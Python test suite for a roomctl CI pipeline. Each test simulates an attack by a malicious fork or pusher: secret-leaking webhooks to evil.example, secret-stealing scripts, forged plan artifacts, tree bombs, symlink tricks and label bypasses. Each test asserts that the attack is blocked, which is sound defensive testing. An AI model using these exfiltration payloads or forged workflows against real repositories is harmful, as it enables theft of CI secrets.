"""Pull requests of people who mean harm, and pushes of people who do not look. Each is stopped, and the rehearsal says where.

An attack gets the stage, does what somebody would do, checks that nothing came of it, and gives out what stopped it.
Afterwards the default branch is what it was before."""

import os
import signal
import socket
import time

from runner import git
from stage import SCRIPTS, check

ATTACKS = []
PUBLIC = "maxParticipants: 3\nprivacy: public\n"


def attack(item, who, through):
    """Notes an attack on a point of the threat model: who tries, and through what."""

    def note(function):
        ATTACKS.append((item, who, through, function))
        return function

    return note


def all_of_them(s, named=""):
    for item, who, through, function in ATTACKS:
        if named not in function.__name__:
            continue
        before = s.main()
        stopped = function(s)
        s.go_on(before)
        print(f"attack {item}: {who}, through {through}: stopped by {stopped}", flush=True)


def refused(s, code, *words):
    """The last run failed with this code, and its log says why."""
    check(s.run.failed is not None and s.run.failed.endswith(f"ended with {code}"), f"{s.run.failed}\n{s.runner.log}")
    for word in words:
        check(word in s.run.log(), f"{word!r} is not in {s.run.log()}")
    return f"{s.run.workflow}, {s.run.failed}"


def not_planned(s, pull, *words):
    """The trusted workflow made no plan, and says so in the pull request."""
    check(s.commented is False, s.runner.log)
    for word in words:
        check(word in s.comment_of(pull), s.comment_of(pull))
    check(s.hub.get(f"/actions/artifacts?name=roomctl-plan-{pull['number']}-{pull['head']['sha']}") == {"artifacts": []}, "no plan")
    return f"{s.run.workflow}, {s.run.failed}"


# --- 1, 12: secrets


@attack("1", "a fork", "a webhook that refers to the account's key")
def the_key_in_a_webhook(s):
    pull = s.pull_request({"rooms/leak.yaml": "meetingEndedWebhook: https://evil.example/?k=${env:METERED_SECRET_KEY}\n"})
    where = not_planned(s, pull, "variable-name")
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    return f"{where}; merged all the same: {refused(s, 3)}"


@attack("12", "a fork", "another room's secret, sent to a host of its own")
def a_secret_of_another_room(s):
    policy = (
        "policies:\n  - id: hooks-are-ours\n    message: webhooks lead to our own host\n"
        "    expression: '!has(room.meetingEndedWebhook) || room.meetingEndedWebhook.startsWith(\"https://hooks.example.com/\")'\n"
    )
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + policy})
    pull = s.pull_request({"rooms/leak.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
    return not_planned(s, pull, "hooks-are-ours")


# --- 2: what the configuration moves


@attack("2", "a fork", "an address of its own for the service")
def an_address_in_the_configuration(s):
    with socket.create_server(("127.0.0.1", 0)) as thief:
        thief.setblocking(False)
        config = f"app: acme\nbase_url: http://127.0.0.1:{thief.getsockname()[1]}\n"
        pull = s.pull_request({"roomctl.yaml": config, "rooms/quick-2.yaml": "maxParticipants: 8\n"})
        check(s.service not in s.comment_of(pull) and "whose guards count" in s.comment_of(pull), s.comment_of(pull))
        check(s.apply(s.merge(pull)) is False, s.runner.log)
        try:
            thief.accept()
            check(False, "somebody came there with the key")
        except BlockingIOError:
            pass
    return refused(s, 4, "the plan is for the service at")


@attack("2", "a fork", "an address elsewhere for the service")
def an_address_elsewhere(s):
    pull = s.pull_request({"roomctl.yaml": "app: acme\nbase_url: https://evil.example\n", "rooms/quick-2.yaml": "maxParticipants: 8\n"})
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    return refused(s, 3, "base_url")


# --- 3, 6: the privileged side believes nobody


def forging(name, job):
    """A workflow that uploads a plan of its own choice under the name that apply.yml looks for."""
    return (
        f"name: {name}\non: pull_request\njobs:\n  {job}:\n    runs-on: ubuntu-24.04\n    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "      - run: |\n"
        "          BRANCH=roomctl-state bash .github/actions/roomctl/state.sh take\n"
        "          mkdir forged && roomctl plan --out forged/plan.roomctl\n"
        "          printf '{\"pull_request\": %s, \"head\": \"%s\", \"base\": \"%s\"}' \"$NUMBER\" \"$HEAD\" \"$GITHUB_SHA\" > forged/source.json\n"
        "        env:\n"
        "          NUMBER: ${{ github.event.pull_request.number }}\n"
        "          HEAD: ${{ github.event.pull_request.head.sha }}\n"
        "      - uses: actions/upload-artifact@v4\n"
        "        with:\n"
        "          name: roomctl-plan-${{ github.event.pull_request.number }}-${{ github.event.pull_request.head.sha }}\n"
        "          path: ${{ github.workspace }}/forged\n"
    )


def a_forged_plan(s, workflow, about):
    """The pull request's own workflow makes a plan, and the trusted one never runs, since nothing starts it."""
    pull = s.open({"rooms/forged.yaml": PUBLIC, f".github/workflows/{workflow}": forging("comment", "comment")})
    event = {"pull_request.number": pull["number"], "pull_request.head.sha": pull["head"]["sha"]}
    made, _ = s.runner.job(workflow, s.trial_merge(pull), {"head_branch": pull["branch"], **about}, event)
    name = f"/actions/artifacts?name=roomctl-plan-{pull['number']}-{pull['head']['sha']}"
    check(made and len(s.hub.get(name)["artifacts"]) == 1, s.runner.log)
    # The workflow itself is left out of the merge: its artifact stays.
    check(s.apply(s.merge(pull)) is False and s.room("forged") is None, s.runner.log)
    return refused(s, 4, "no reviewed plan has it", "no plan was reviewed for 1 commits")


@attack("3, 6", "a fork", "a plan that its own plan.yml uploads under the name of the trusted one")
def a_plan_of_the_forks_workflow(s):
    return a_forged_plan(s, "plan.yml", {"event": "pull_request", "head_repository": "stranger/rooms"})


@attack("3, 6", "a fork", "a workflow that calls itself comment.yml")
def a_namesake_of_the_trusted_workflow(s):
    return a_forged_plan(s, "comment.yml", {"event": "pull_request", "head_repository": "stranger/rooms"})


@attack("3, 6", "somebody who may push branches", "comment.yml on a branch of the repository")
def the_trusted_workflow_of_another_branch(s):
    return a_forged_plan(s, "comment.yml", {"event": "workflow_dispatch"})


@attack("3", "a fork", "an action and scripts that show something else, and take what they find")
def code_in_the_pull_request(s):
    thief = 'echo "took $GITHUB_TOKEN $TOKEN $METERED_SECRET_KEY" > "$HOME/stolen-$GITHUB_RUN_ID"\n'
    files = {f"{SCRIPTS}/{name}": thief for name in ("run.sh", "state.sh")}
    files |= {f"{SCRIPTS}/{name}": "import os\nos.system('touch $HOME/stolen-$GITHUB_RUN_ID')\n" for name in ("github.py", "reviewed.py")}
    pull = s.pull_request({**files, "rooms/quick-2.yaml": PUBLIC})
    ran = {int(path.name.split("-")[1]) for path in s.work.glob("stolen-*")}
    check(ran == {s.run.id - 1}, f"only the run without a secret ran it: {ran}, {s.run.id}")
    check("privacy-widened" in s.comment_of(pull), s.comment_of(pull))
    return "comment.yml, which runs the code of the default branch and comments on the room files"


@attack("3", "a fork", "a head that is another one than was asked for")
def a_head_that_moves(s):
    pull = s.pull_request({"rooms/moves.yaml": "maxParticipants: 3\n"})
    s.push_to(pull, {"rooms/moves.yaml": PUBLIC}, plan=False)
    s.trial_merge(pull)
    kept = pull["head"]["sha"]
    pull["head"]["sha"] = git("-C", s.clone, "rev-parse", "HEAD^")
    s.comment(pull)
    pull["head"]["sha"] = kept
    check("privacy-widened" not in s.comment_of(pull), s.comment_of(pull))
    stopped = refused(s, 1, "the pull request moved meanwhile")
    check(s.apply(s.merge(pull)) is False and s.room("moves") is None, s.runner.log)
    return f"{stopped}; merged before its plan: {refused(s, 4)}"


# --- 4, 5: what is whose, and in which order


@attack("4", "a fork", "a base that lags behind, so that others' change looks like its own")
def a_base_that_lags(s):
    other = s.pull_request({"rooms/tea.yaml": "maxParticipants: 9\nprivacy: private\n"}, who="colleague")
    s.merge(other)
    pull = s.pull_request({"rooms/mine.yaml": "maxParticipants: 3\n"})
    report = s.report()
    said = {change["room"]: change["explanation"] for change in report["changes"]}
    check(said == {"mine": "this-change", "tea": "merged-earlier"}, said)
    check("merged earlier, not applied" in s.comment_of(pull), s.comment_of(pull))
    return "comment.yml, which compares with the first parent of the merge commit"


@attack("5", "somebody who may push", "a commit straight to the default branch")
def straight_to_main(s):
    sha = s.straight_to_main({"rooms/late.yaml": "maxParticipants: 2\n"})
    check(s.apply(sha) is False and s.room("late") is None, s.runner.log)
    issue = s.hub.issues[-1]
    check(issue["labels"] == ["roomctl-apply"] and issue["state"] == "open" and sha[:12] in issue["body"], issue)
    stopped = refused(s, 4, "late: no reviewed plan has it")
    # The next pull request shows it, and covers it.
    pull = s.pull_request({"rooms/next.yaml": "maxParticipants: 2\n"})
    check(s.apply(s.merge(pull)) and s.room("late") and issue["state"] == "closed", s.runner.log)
    return stopped


@attack("5, 6", "somebody who may push", "a change beside a pull request whose plan is empty")
def beside_an_empty_plan(s):
    pull = s.pull_request({"rooms/tea.yaml": "# A comment.\n" + (s.clone / "rooms/tea.yaml").read_text()})
    check(s.report()["summary"]["update"] == 0 and "beside" not in s.comment_of(pull), s.report())
    s.straight_to_main({"rooms/beside.yaml": PUBLIC})
    check(s.apply(s.merge(pull)) is False and s.room("beside") is None, s.runner.log)
    return refused(s, 4, "beside: no reviewed plan has it")


@attack("5", "a default of somebody else", "a merge between the plan and its own merge")
def a_default_in_between(s):
    pull = s.pull_request({"rooms/tea.yaml": "maxParticipants: 6\nprivacy: public\n"})
    s.straight_to_main({"rooms/_defaults.yaml": "privacy: private\nautoJoin: true\n"})
    check(s.apply(s.merge(pull)) is False, "a room that moved since the review holds everything back")
    return refused(s, 4, "tea: its file is another than the reviewed one")


# --- 7: links, size, files that a checkout brings


def hostile_files(item, through, files, *words):
    @attack(item, "a fork", through)
    def function(s):
        pull = s.pull_request({"rooms/good.yaml": "maxParticipants: 3\n"}, also=files)
        return not_planned(s, pull, "not planned", *words)

    function.__name__ = through
    return function


def link(clone):
    os.symlink("/dev/zero", clone / "rooms/zero.yaml")


def executable(clone):
    (clone / "rooms/run.yaml").write_text("privacy: private\n")
    (clone / "rooms/run.yaml").chmod(0o755)


def attributes(clone):
    (clone / ".gitattributes").write_text("rooms/*.yaml ident eol=crlf filter=evil\n")


def large(clone):
    (clone / "rooms/large.yaml").write_text("#" * (300 * 1024))


hostile_files("7", "a link among the room files", link, "is a link")
hostile_files("7", "a file of 300 KiB", large, "rooms/large.yaml is larger than 262144 bytes")
hostile_files("7", "an executable room file", executable, "is executable")
hostile_files("7", "attributes that rewrite files on checkout", attributes, ".gitattributes")


@attack("7", "a fork", "a tree of a hundred million files in ten objects")
def a_tree_without_end(s):
    blob = git("-C", s.clone, "hash-object", "-w", "rooms/tea.yaml")
    kind, name = f"100644 blob {blob}", "{}.yaml"
    for _ in range(8):
        lines = "".join(f"{kind}\t{name.format(n)}\n" for n in range(10))
        tree = git("-C", s.clone, "mktree", given=lines)
        kind, name = f"040000 tree {tree}", "d{}"
    top = git("-C", s.clone, "mktree", given=f"040000 tree {tree}\trooms\n")
    pull = s.open_commit(git("-C", s.clone, "commit-tree", top, "-p", "main", "-m", "Bomb"))
    s.comment(pull)
    return not_planned(s, pull, "more files than can be listed")


@attack("7", "a fork", "a submodule among the room files")
def a_submodule(s):
    tree = git("-C", s.clone, "mktree", given=f"160000 commit {'1' * 40}\tothers\n")
    top = git("-C", s.clone, "mktree", given=f"040000 tree {tree}\trooms\n")
    pull = s.open_commit(git("-C", s.clone, "commit-tree", top, "-p", "main", "-m", "Submodule"))
    s.comment(pull)
    return not_planned(s, pull, "is a submodule")


@attack("7", "a fork", "a state, a journal and a link in the place of the lock, in the checkout")
def a_state_in_the_checkout(s):
    precious = s.work / "precious"
    precious.write_text("not to be emptied\n")

    def plant(clone):
        (clone / ".roomctl").mkdir()
        (clone / ".roomctl/state.json").write_text('{"app": "acme"}')
        (clone / ".roomctl/state.json.journal").write_text("{}\n")
        os.symlink(precious, clone / ".roomctl/state.json.lock")

    pull = s.pull_request({"rooms/planted.yaml": "maxParticipants: 3\n"}, also=plant)
    check(s.commented and s.apply(s.merge(pull)), s.runner.log)
    check(precious.read_text() == "not to be emptied\n", "the lock was followed")
    check('"planted"' in s.state() and '"tea"' in s.state(), "the state is that of its branch")
    return "state.sh take, which begins with nothing"


@attack("7", "a fork", "a directory of the state that is a link")
def a_state_directory_that_is_a_link(s):
    outside = s.work / "outside"
    outside.mkdir()
    (outside / "kept").write_text("kept\n")
    pull = s.pull_request({"rooms/linked.yaml": "maxParticipants: 3\n"}, also=lambda clone: os.symlink(outside, clone / ".roomctl"))
    check(s.commented and s.apply(s.merge(pull)), s.runner.log)
    check([path.name for path in outside.iterdir()] == ["kept"], "nothing is written through it, nor removed")
    return "state.sh take, which begins with nothing"


# --- 10: a job that is cancelled


def cancelled(item, through, *signals):
    @attack(item, "whoever cancels a job", through)
    def function(s):
        prefix = f"slow-{len(signals)}{int(signals[0])}"
        rooms = {f"rooms/{prefix}-{n}.yaml": "maxParticipants: 3\n" for n in range(9)}
        pull = s.pull_request(rooms)
        sha = s.merge(pull)
        before = s.state()

        def cancel(child):
            deadline = time.monotonic() + 60
            while s.room(f"{prefix}-0") is None and child.poll() is None and time.monotonic() < deadline:
                time.sleep(0.01)
            for one in signals:
                child.send_signal(one)

        s.runner.cancel = cancel
        ok = s.apply(sha)
        s.runner.cancel = None
        check(ok is False, s.runner.log)
        stopped = refused(s, 130)
        receipts = s.report()["receipts"]
        done = [one for one in receipts if one["outcome"] == "confirmed"]
        check(0 < len(done) < 9 and len(receipts) == 9, receipts)
        check(s.state() != before and s.state("applied") != sha, "the state is kept, and the commit does not count as applied")
        # The next run does the rest.
        check(s.apply(sha) and all(s.room(f"{prefix}-{n}") for n in range(9)), s.runner.log)
        return f"{stopped}: {len(done)} of 9 rooms done, report and state kept, the rest done by the next run"

    function.__name__ = through
    return function


cancelled("10", "SIGINT to the shell of the step", signal.SIGINT)
cancelled("10", "SIGHUP to the shell of the step", signal.SIGHUP)


# --- 11: guards


GUARD = "guard:\n  require_allow: [privacy-widened]\n"
ALLOW = "roomctl:allow/privacy-widened"


def guarded(s, files=None):
    """A pull request that needs to be allowed what it does."""
    git("-C", s.clone, "checkout", "-q", "main")
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD})
    pull = s.pull_request(files or {"rooms/quick-2.yaml": PUBLIC})
    check("privacy-widened" in s.comment_of(pull), s.comment_of(pull))
    return pull


def still_private(s, room="quick-2"):
    check('"privacy":"private"' in s.room(room), s.room(room))


@attack("11", "a fork", "a label that somebody without write access set")
def a_label_without_write_access(s):
    pull = guarded(s)
    s.hub.permissions["helper"] = "read"
    s.hub.label(pull, ALLOW, "helper")
    s.plan(pull)
    check("does not count: who set it has no write access" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    return refused(s, 4, "privacy-widened")


@attack("11", "a fork", "a push after the label was set")
def a_push_after_the_label(s):
    pull = guarded(s, {"rooms/quick-2.yaml": "maxParticipants: 7\n"} | {"rooms/quick-3.yaml": PUBLIC})
    s.hub.label(pull, ALLOW, "maintainer")
    s.push_to(pull, {"rooms/quick-2.yaml": PUBLIC})
    check("does not count: it was set before the last commit" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    return refused(s, 4, "privacy-widened")


@attack("11", "a fork", "the label of another pull request that is applied in the same run")
def the_label_of_another(s):
    allowed = guarded(s, {"rooms/quick-3.yaml": PUBLIC})
    pull = s.pull_request({"rooms/quick-2.yaml": PUBLIC})
    s.hub.label(allowed, ALLOW, "maintainer")
    s.merge(allowed)
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    stopped = refused(s, 4, "privacy-widened")
    # By hand, by somebody with write access, it goes on.
    check(s.apply(s.main(), allow="privacy-widened") and '"privacy":"public"' in s.room("quick-2"), s.runner.log)
    return stopped


@attack("2, 11", "a fork", "a guard that it takes away together with what the guard refuses")
def a_guard_that_goes(s):
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD})
    config = (s.clone / "roomctl.yaml").read_text().removesuffix(GUARD)
    pull = s.pull_request({"roomctl.yaml": config, "rooms/quick-4.yaml": PUBLIC})
    check("whose guards count" in s.comment_of(pull) or "guard-weakened" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s, "quick-4")
    return refused(s, 4, "privacy-widened")


@attack("11", "nobody", "a label of a maintainer, set after the plan: this one is let through")
def a_label_that_counts(s):
    pull = guarded(s, {"rooms/quick-4.yaml": PUBLIC})
    s.hub.label(pull, ALLOW, "maintainer")
    s.plan(pull)
    check("`privacy-widened` is allowed by a label that maintainer set" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) and '"privacy":"public"' in s.room("quick-4"), s.runner.log)
    return "nothing, as it should be"
